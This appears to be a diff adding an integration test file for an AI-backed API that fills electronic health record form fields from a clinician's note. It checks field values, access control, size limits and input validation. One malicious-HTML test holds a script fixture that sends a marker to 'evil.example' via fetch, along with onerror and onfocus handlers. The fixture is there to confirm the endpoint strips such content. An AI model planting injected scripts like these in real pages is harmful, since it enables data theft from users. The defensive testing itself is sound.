@@ -1,0 +1,145 @@
+import { MAGIC_FILL_LIMITS } from '@charta/contract';
+import request from 'supertest';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { aiEmulatorControl } from '../support/ai-emulator.js';
+import { emulatorApi } from '../support/api-app.js';
+import { createTestUser, type TestUser } from '../support/auth-users.js';
+import { sampleEhrHtml } from '../support/sample-ehr.js';
+import { bearer } from '../support/sessions.js';
+
+// A fixed clock: the follow-up date is counted from "today".
+const TODAY = new Date('2026-03-02T10:00:00Z');
+const { app } = emulatorApi({ now: () => TODAY });
+const ai = aiEmulatorControl(process.env['AI_EMULATOR_URL'] ?? '');
+const post = (user: TestUser, path: string, body: object) => request(app).post(`/api/v1${path}`).set(bearer(user)).send(body);
+const fill = (user: TestUser, body: object) => post(user, '/magic_fill/fill_html2', body);
+
+/** The note as the clinician finished it, section by section (history-and-physical template). */
+const NOTE: Record<string, string> = {
+  'chief-complaint': 'Dry cough for three days.',
+  'history-of-present-illness': 'Dry cough for three days with a mild fever last night. Slightly breathless on stairs. No chest pain.',
+  medications: '- Ibuprofen 400 mg orally as needed',
+  allergies: '- Penicillin: rash',
+  'family-history': 'Not discussed.',
+  'physical-examination': '- Temperature 37.4 °C, heart rate 76, blood pressure 128/82\n- Lungs clear on auscultation',
+  assessment: 'Viral upper respiratory infection.',
+  plan: '- Rest and fluids\n- Paracetamol for fever\n- Follow up in two weeks if not better',
+};
+
+/** What the extension sends for the main frame: the live DOM, where React has rendered the plan field. */
+async function liveVisitNoteHtml(): Promise<string> {
+  const served = await sampleEhrHtml('/');
+  const rendered = served.replace(/<div id="plan-root">[\s\S]*?<\/div>/, '<div id="plan-root"><div class="row"><label for="plan">Plan</label><textarea id="plan" name="plan" rows="4"></textarea></div></div>');
+  expect(rendered).not.toBe(served);
+  return rendered;
+}
+
+let owner: TestUser;
+let stranger: TestUser;
+let documentationId: string;
+
+beforeAll(async () => {
+  [owner, stranger] = await Promise.all([createTestUser(), createTestUser()]);
+  const created = await post(owner, '/creation', { patientName: 'Fill Test', templateId: 'history-and-physical', text: 'Clinician: What brings you in?\nPatient: A dry cough.' }).expect(201);
+  documentationId = created.body.documentation.id as string;
+  for (const [sectionId, content] of Object.entries(NOTE)) {
+    await post(owner, '/session/documentation/section/update_value', { documentationId, sectionId, content }).expect(200);
+  }
+}, 60_000);
+
+describe('POST /magic_fill/fill_html2', () => {
+  it('fills the sample EHR: values that fit each field, a real option for the select, a date for the date field, nothing for what the note does not say', async () => {
+    const res = await fill(owner, { documentationId, html: await liveVisitNoteHtml() }).expect(200);
+    const bySelector = Object.fromEntries((res.body.fields as { selector: string; label: string; value: string }[]).map((f) => [f.selector, f]));
+    expect(bySelector['#chief-complaint']).toEqual({ selector: '#chief-complaint', label: 'Chief complaint', value: 'Dry cough for three days.' });
+    expect(bySelector['#hpi']?.value).toContain('mild fever');
+    expect(bySelector['[name="medications"]']?.value).toContain('Ibuprofen 400 mg');
+    expect(bySelector['[name="allergies"]']?.value).toContain('Penicillin');
+    expect(bySelector['[name="assessment"]']?.value).toBe(NOTE['assessment']);
+    expect(bySelector['#diagnosis']?.value).toBe('J06.9');
+    expect(bySelector['#follow-up']?.value).toBe('2026-03-16');
+    expect(bySelector['#plan']?.value).toContain('Rest and fluids');
+    // Never the fields that must stay untouched, never a field nothing in the note fills.
+    for (const untouched of ['#signature-password', '#encounter-token', '#attachment', '#mrn', '#visit-id']) expect(bySelector[untouched]).toBeUndefined();
+    expect(JSON.stringify(res.body)).not.toMatch(/enc-7731|MRN-000123|password|attachment/i);
+    expect(res.body.truncated).toBeUndefined();
+  });
+
+  it('fills the iframe on its own, with selectors local to that frame', async () => {
+    const res = await fill(owner, { documentationId, html: await sampleEhrHtml('/vitals') }).expect(200);
+    expect(res.body.fields).toEqual([{ selector: '#vital-signs', label: 'Vital signs', value: NOTE['physical-examination'] }]);
+  });
+
+  it('answers a select only with one of its options, whatever the note says', async () => {
+    const html = '<label for="dx">Diagnosis</label><select id="dx"><option value="">Pick</option><option value="I10">I10 Essential hypertension</option><option value="E11.9">E11.9 Type 2 diabetes</option></select>';
+    const res = await fill(owner, { documentationId, html }).expect(200);
+    // The note is about a respiratory infection: neither option fits, so the select is left out.
+    expect(res.body.fields).toEqual([]);
+  });
+
+  it('Ownership: another user\'s or a missing documentation answers 404', async () => {
+    const html = await sampleEhrHtml('/vitals');
+    expect((await fill(stranger, { documentationId, html }).expect(404)).body.error.code).toBe('not_found');
+    await fill(owner, { documentationId: 'no-such-documentation', html }).expect(404);
+    await request(app).post('/api/v1/magic_fill/fill_html2').send({ documentationId, html }).expect(401);
+  });
+
+  it(`Size: html over ${MAGIC_FILL_LIMITS.htmlBytes} UTF-8 bytes answers 413 naming html; at the limit it is read`, async () => {
+    const at = `<input aria-label="Allergies">${' '.repeat(MAGIC_FILL_LIMITS.htmlBytes - 30)}`;
+    expect(Buffer.byteLength(at)).toBe(MAGIC_FILL_LIMITS.htmlBytes);
+    expect((await fill(owner, { documentationId, html: at }).expect(200)).body.fields).toHaveLength(1);
+    const over = (await fill(owner, { documentationId, html: `${at} ` }).expect(413)).body;
+    expect(over).toEqual({ error: { code: 'payload_too_large', message: expect.any(String), field: 'html' } });
+    // Counted in bytes: 600,000 two-byte characters are 1.2 MB.
+    expect((await fill(owner, { documentationId, html: 'é'.repeat(600_000) }).expect(413)).body.error.field).toBe('html');
+    // A body over the API's JSON limit is the same 413, in the same shape.
+    expect((await fill(owner, { documentationId, html: '"'.repeat(MAGIC_FILL_LIMITS.htmlBytes) }).expect(413)).body.error.code).toBe('payload_too_large');
+  });
+
+  it.each([
+    [{}, 'html'],
+    [{ html: 42 }, 'html'],
+    [{ documentationId: undefined, html: '<input>' }, 'documentationId'],
+    [{ html: '', extra: 1 }, 'extra'],
+  ])('Bad input %j: 400 naming %s', async (fields, field) => {
+    expect((await fill(owner, { documentationId, ...fields }).expect(400)).body.error.field).toBe(field);
+  });
+});
+
+describe('POST /magic_fill/fill_html2 with malicious HTML', () => {
+  it('never runs or forwards scripts, styles or event handlers: only labels reach the model', async () => {
+    const marker = `secret-${Date.now()}`;
+    const html = `<script>window.${marker}=1;fetch('https://evil.example/${marker}')</script><style>.x{content:"${marker}"}</style>
+      <img src=x onerror="alert('${marker}')"><label for="cc">Chief complaint</label><input id="cc" onfocus="steal('${marker}')" value="${marker}">
+      <textarea aria-label="Allergies">${marker}</textarea><div hidden><input aria-label="Plan ${marker}"></div>`;
+    const res = await fill(owner, { documentationId, html }).expect(200);
+    expect(res.body.fields.map((f: { selector: string }) => f.selector)).toEqual(['#cc', 'body > textarea:nth-of-type(1)']);
+    expect(JSON.stringify(res.body)).not.toContain(marker);
+    // The emulator records every prompt it served: none carried the page's scripts, values or hidden parts.
+    expect(await ai.calls('gemini', marker)).toEqual([]);
+  });
+
+  it(`10,000 fields: answered fast with the first ${MAGIC_FILL_LIMITS.fields} considered and truncated: true`, async () => {
+    const html = '<form>' + Array.from({ length: 10_000 }, (_, i) => `<label>Allergies ${i}<input name="a${i}"></label>`).join('') + '</form>';
+    const started = Date.now();
+    const res = await fill(owner, { documentationId, html }).expect(200);
+    expect(Date.now() - started).toBeLessThan(5000);
+    expect(res.body.truncated).toBe(true);
+    expect(res.body.fields.length).toBeGreaterThan(0);
+    expect(res.body.fields.length).toBeLessThanOrEqual(MAGIC_FILL_LIMITS.fields);
+  });
+
+  it('deep nesting (200,000 elements) is answered fast; fields below the depth limit are not read', async () => {
+    const html = `<label for="cc">Chief complaint</label><input id="cc">${'<div>'.repeat(200_000)}<input aria-label="Allergies">`;
+    const started = Date.now();
+    const res = await fill(owner, { documentationId, html }).expect(200);
+    expect(Date.now() - started).toBeLessThan(5000);
+    expect(res.body.fields.map((f: { selector: string }) => f.selector)).toEqual(['#cc']);
+  });
+
+  it('a page with no fillable field makes no model call', async () => {
+    const marker = `nothing-${Date.now()}`;
+    const res = await fill(owner, { documentationId, html: `<p>${marker}</p><input type="password" aria-label="${marker}"><input type="hidden" name="${marker}">` }).expect(200);
+    expect(res.body).toEqual({ fields: [] });
+  });
+});
